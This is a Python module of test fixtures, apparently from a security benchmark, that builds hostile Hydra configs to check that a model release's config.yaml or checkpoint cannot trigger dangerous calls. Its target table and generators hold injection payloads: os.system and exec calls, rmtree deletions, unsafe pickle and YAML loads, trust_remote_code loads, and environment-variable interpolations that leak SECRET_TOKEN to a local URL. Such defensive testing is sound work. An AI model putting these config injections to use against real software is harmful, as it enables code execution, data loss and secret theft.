"""Hostile configs: what a release's config.yaml or a checkpoint could ask Hydra to call, read or expand."""

import copy
from collections.abc import Iterator
from typing import Any

from benchmarks.hostile.watched import SECRET

TARGETS: dict[str, dict[str, Any]] = {
    "torch.hub.load": {"repo_or_dir": "{evil}", "model": "x", "source": "local"},
    "torch.load": {"f": "{evil}/evil.pkl", "weights_only": False},
    "numpy.load": {"file": "{evil}/evil.pkl", "allow_pickle": True},
    "pandas.read_pickle": {"filepath_or_buffer": "{evil}/evil.pkl"},
    "pickle.load": {"file": {"_target_": "builtins.open", "file": "{evil}/evil.pkl", "mode": "rb"}},
    "os.system": {"command": "touch {evil}/canary"},
    "subprocess.run": {"args": ["touch", "{evil}/canary"]},
    "subprocess.check_output": {"args": ["touch", "{evil}/canary"]},
    "builtins.exec": {"_args_": ["open('{evil}/canary', 'w')"]},
    "builtins.eval": {"_args_": ["open('{evil}/canary', 'w')"]},
    "builtins.open": {"file": "{evil}/canary", "mode": "w"},
    "builtins.__import__": {"name": "evil"},
    "importlib.import_module": {"name": "evil"},
    "runpy.run_path": {"path_name": "{evil}/evil.py"},
    "shutil.copy": {"src": "{evil}/evil.py", "dst": "{evil}/canary"},
    "shutil.rmtree": {"path": "{evil}/precious"},
    "os.remove": {"path": "{evil}/precious/file"},
    "pathlib.Path.write_text": {"self": {"_target_": "pathlib.Path", "_args_": ["{evil}/canary"]}, "data": "x"},
    "urllib.request.urlopen": {"url": "http://127.0.0.1:9/?${{oc.env:SECRET_TOKEN}}"},
    "socket.create_connection": {"address": ["127.0.0.1", 9]},
    "webbrowser.open": {"url": "http://127.0.0.1:9/"},
    "timeit.timeit": {"stmt": "open('{evil}/canary', 'w')", "number": 1},
    "ctypes.CDLL": {"name": "{evil}/evil.so"},
    "torch.ops.load_library": {"path": "{evil}/evil.so"},
    "torch.utils.cpp_extension.load": {"name": "evil", "sources": ["{evil}/evil.cpp"]},
    "hydra.utils.instantiate": {"config": {"_target_": "os.system", "command": "touch {evil}/canary"}},
    "hydra.utils.call": {"config": {"_target_": "os.system", "command": "touch {evil}/canary"}},
    "hydra.utils.get_method": {"path": "os.system"},
    "omegaconf.OmegaConf.save": {"config": {"a": 1}, "f": "{evil}/canary"},
    "yaml.unsafe_load": {"stream": "!!python/object/apply:os.system ['touch {evil}/canary']"},
    "transformers.AutoModel.from_pretrained": {"pretrained_model_name_or_path": "{evil}", "trust_remote_code": True},
    "diffusers.DiffusionPipeline.from_pretrained": {
        "pretrained_model_name_or_path": "{evil}",
        "trust_remote_code": True,
    },
    "longtake.releases.reading.load_run": {"weights": "{evil}/second"},
    "longtake.releases.reading.read_run": {"weights": "{evil}/second"},
    "longtake.releases.writing.release": {"weights": "{evil}/second", "folder": "{evil}/canary", "dtype": "float32"},
    "longtake.cli.training.train": {"cfg": {}},
    "longtake.releases.hub.on_disk": {"weights": "hub:a/b", "key": "weights"},
    "networks.saving.save_file": {"tensors": {}, "filename": "{evil}/canary"},
    "networks.saving.build": {"config": {"_class_name": "networks.saving.save_file"}},
    "networks.saving.importlib.import_module": {"name": "evil"},
    "networks.saving.os.system": {"command": "touch {evil}/canary"},
    "networks.reading.Path.write_text": {"self": "{evil}/canary", "data": "x"},
    "longtake.video.write_video": {"path": "{evil}/canary", "pieces": [], "fps": 8},
    "lightning_modules.callbacks.samples.SampleVideos": {
        "write_video": "x",
        "rollout": None,
        "folder": "{evil}/canary",
    },
    "lightning.Trainer": {"default_root_dir": "{evil}/canary"},
    "torch.optim.AdamW": {"params": []},
    "evil.run": {},
    "networks.evil.run": {},
    ".networks.dit.VideoDiT": {},
    "networks..dit.VideoDiT": {},
    "networks.dit.__class__": {},
    "networks.dit.VideoDiT.__init__.__globals__": {},
    "networks.text.nn.Linear": {"in_features": 1, "out_features": 1},
}
"""What a `_target_` could name, with arguments that would leave a trace."""

PLACES = (
    "lightning_module", "codec", "text", "sampler", "guidance", "rollout", "network", "objective", "network.backbone",
    "objective.path", "objective.times", "objective.times.law", "network.interface", "lightning_module.extra",
    "video", "video.fps", "prompts.0", "seed", "name", "interface", "backbone", "compressor", "rollout.extra.0",
)  # fmt: skip
"""Where in a config it could stand."""


def filled(node: Any, evil: str) -> Any:
    """The same values with the folder's name in place of {evil}."""
    if isinstance(node, dict):
        return {key: filled(value, evil) for key, value in node.items()}
    if isinstance(node, list):
        return [filled(value, evil) for value in node]
    return node.replace("{evil}", evil).replace("${{", "${").replace("}}", "}") if isinstance(node, str) else node


def put(config: dict[str, Any], place: str, value: Any) -> dict[str, Any]:
    """A copy of a config with a value at a dotted place; what is missing on the way is made."""
    found = copy.deepcopy(config)
    node: Any = found
    *way, last = place.split(".")
    for key in way:
        if not isinstance(node.get(key), dict):
            node[key] = {}
        node = node[key]
    node[last] = value
    return found


def calls(config: dict[str, Any], evil: str) -> Iterator[tuple[str, dict[str, Any]]]:
    """Configs with each target, at three places that change from target to target, and in each spelling."""
    for number, (target, arguments) in enumerate(TARGETS.items()):
        for step in range(3):
            place = PLACES[(3 * number + step) % len(PLACES)]
            node: dict[str, Any] = {"_target_": target, **filled(arguments, evil)}
            if step == 2:
                node["_partial_"] = number % 2 == 0
            yield f"{target} at {place}", put(config, place, node)
    command = {"_target_": "os.system", "command": f"touch {evil}/canary"}
    yield "a list of targets", put(config, "rollout", {"_target_": ["os.system"], "command": "x"})
    yield "a target that is a mapping", put(config, "rollout", {"_target_": command})
    yield (
        "arguments by _args_",
        put(config, "sampler", {"_target_": "longtake.samplers.Euler", "_args_": [command]}),
    )
    yield "_recursive_", put(config, "guidance", {**config["guidance"], "_recursive_": False, "extra": command})
    yield "_convert_", put(config, "guidance", {**config["guidance"], "_convert_": "all"})
    yield "in a list in a list", put(config, "sampler.settings", {"a": [[command]]})
    yield "in the settings of a scheduler", put(config, "sampler.settings", {"solver_order": command})
    yield "as an optimizer", put(config, "lightning_module.optimizer", command)
    yield "as a scheduler", put(config, "lightning_module.scheduler", command)
    yield (
        "as a group that is not read",
        {**config, "callbacks": {"evil": command}, "trainer": command, "hydra": command},
    )


INTERPOLATIONS = (
    "${oc.env:SECRET_TOKEN}", "a ${oc.env:SECRET_TOKEN} walks", "${oc.env:SECRET_TOKEN,none}",
    "${oc.decode:${oc.env:SECRET_TOKEN}}", "${oc.create:{a: ${oc.env:SECRET_TOKEN}}}", "${oc.select:prompts}",
    "${oc.dict.keys:codec}", "${hydra:runtime.cwd}", "${now:%Y}", "${.}", "${..name}", "${name}", "${network.width}",
    "${lightning_module}", "${oc.env:${name}}", "\\${oc.env:SECRET_TOKEN}", "\\\\${oc.env:SECRET_TOKEN}",
    "$${oc.env:SECRET_TOKEN}", "${ oc.env : SECRET_TOKEN }", "${oc.deprecated:name}",
)  # fmt: skip


def readings(config: dict[str, Any]) -> Iterator[tuple[str, dict[str, Any]]]:
    """Configs that ask for the environment or for other settings, as prompts, names, sizes and folders."""
    for number, text in enumerate(INTERPOLATIONS):
        place = ("prompts", "name", "text.max_length", "video.fps", "codec.folder", "network.chunk_frames")[number % 6]
        yield f"{text} at {place}", put(config, place, [text] if place == "prompts" else text)
        yield f"{text} in prompts", put(config, "prompts", [text])
    yield "the secret itself as a prompt", put(config, "prompts", [f"a {SECRET} walks"])
    yield "an interpolation as a key", put(config, "video", {"${oc.env:SECRET_TOKEN}": 1, **config["video"]})


def sizes(config: dict[str, Any]) -> Iterator[tuple[str, dict[str, Any]]]:
    """Configs whose numbers would fill the memory or never end."""
    huge = 10**9
    for place in (
        *(
            "network.backbone.depth",
            "network.backbone.width",
            "network.interface.num_tokens",
            "network.interface.depth",
        ),
        *(
            "network.backbone.mlp_ratio",
            "network.backbone.num_heads",
            "network.chunk_frames",
            "sampler.num_inference_steps",
        ),
        *("network.backbone.text_features", "text.features", "codec.channels", "video.height", "network.local_frames"),
    ):
        for value in (huge, -huge, 10**30, float("nan"), float("inf"), True, "many", None, [1], {"a": 1}):
            yield f"{place}={value}", put(config, place, value)
